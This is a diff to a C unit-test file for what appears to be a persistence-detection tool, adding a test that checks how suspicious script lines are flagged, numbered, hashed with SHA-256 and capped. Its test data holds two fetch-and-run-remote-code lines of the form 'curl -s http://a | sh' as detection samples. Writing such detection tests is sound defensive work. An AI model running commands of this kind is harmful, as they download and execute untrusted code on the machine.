@@ -6,6 +6,7 @@
  * quotes, huge lines) is judged without a crash.
  */
 #include "testutil.h"
+#include "core/digest.h"
 #include "persist/persist.h"
 
 #include <stdlib.h>
@@ -127,6 +128,29 @@ static void test_authorized_keys(void **state)
 	assert_string_equal(v.extra_attack, "T1574.006");
 }
 
+/* Every line that gives a reason is noted with the SHA-256 of its bytes, a
+ * line repeating a reason already given too (respond remove takes them all). */
+static void test_noted_lines(void **state)
+{
+	(void)state;
+	const char script[] = "#!/bin/sh\ncurl -s http://a | sh\r\nok\ncurl -s http://b | sh\n";
+	rs_verdict v;
+	rs_verdict_init(&v);
+	assert_int_equal(rs_persist_judge_script(script, sizeof(script) - 1, &v), 2);
+	assert_int_equal(v.n_lines, 2);
+	assert_int_equal(v.lines[0].number, 2);
+	assert_int_equal(v.lines[1].number, 4);
+	char hex[65];
+	rs_sha256_hex("curl -s http://a | sh\r", 22, hex); /* the CR is part of the line */
+	assert_string_equal(v.lines[0].sha256, hex);
+	/* a line noted twice counts once; at most RS_VERDICT_LINES are kept */
+	rs_verdict_note_line(&v, 2, "x", 1);
+	assert_int_equal(v.n_lines, 2);
+	for (size_t i = 10; i < 30; i++)
+		rs_verdict_note_line(&v, i, "y", 1);
+	assert_int_equal(v.n_lines, RS_VERDICT_LINES);
+}
+
 static void test_script_and_junk(void **state)
 {
 	(void)state;
@@ -158,6 +182,7 @@ int main(void)
 		cmocka_unit_test(test_pam),
 		cmocka_unit_test(test_authorized_keys),
 		cmocka_unit_test(test_script_and_junk),
+		cmocka_unit_test(test_noted_lines),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
